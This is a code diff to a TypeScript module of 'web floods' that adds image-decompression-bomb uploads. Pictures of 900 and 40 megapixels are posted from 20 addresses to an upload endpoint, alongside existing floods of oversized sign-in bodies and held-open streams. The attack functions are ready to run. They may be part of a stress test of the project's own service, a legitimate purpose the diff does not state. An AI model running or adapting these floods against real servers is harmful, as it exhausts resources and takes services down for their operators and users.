@@ -2,6 +2,7 @@ import { request } from 'node:http';
 import { setTimeout as sleep } from 'node:timers/promises';
 import { ADMIN_PASSWORD } from '../system.ts';
 import type { Target } from './floods.ts';
+import { pictureOf } from './picture-bomb.ts';
 
 interface Question {
   method?: 'GET' | 'POST';
@@ -59,6 +60,18 @@ const FORM = Buffer.concat([
   Buffer.from('\n%%EOF\r\n--x--\r\n'),
 ]);
 
+/** Licences of applicants that are a picture, from 20 addresses. */
+function pictures(target: Target, picture: Buffer): Promise<void> {
+  const head = 'Content-Disposition: form-data; name="file"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n';
+  const body = Buffer.concat([Buffer.from(`--x\r\n${head}`), picture, Buffer.from('\r\n--x--\r\n')]);
+  return knockOn(target, 20, () => ({
+    method: 'POST',
+    path: '/prod-api/web/apply/upload',
+    headers: { 'content-type': 'multipart/form-data; boundary=x' },
+    body,
+  }));
+}
+
 /** Opens as many streams of one user as it gets, and keeps them. */
 async function streams(target: Target, count: number): Promise<void> {
   const { data } = (await (
@@ -108,6 +121,9 @@ export const webFloods: Readonly<Record<string, (target: Target) => Promise<void
       headers: { 'content-type': 'multipart/form-data; boundary=x' },
       body: FORM,
     })),
+  'pictures of 900 megapixels, 20 addresses': (target) => pictures(target, pictureOf(30_000, 30_000)),
+  // As many pixels as are taken: each of them is decoded.
+  'pictures of 40 megapixels, 20 addresses': (target) => pictures(target, pictureOf(8_000, 5_000)),
   'sign-in bodies of 900 kB, 40 addresses': (target) => {
     const body = fill(900_000);
     return knockOn(target, 40, () => ({ method: 'POST', path: '/prod-api/web/login', headers: JSON_BODY, body }));
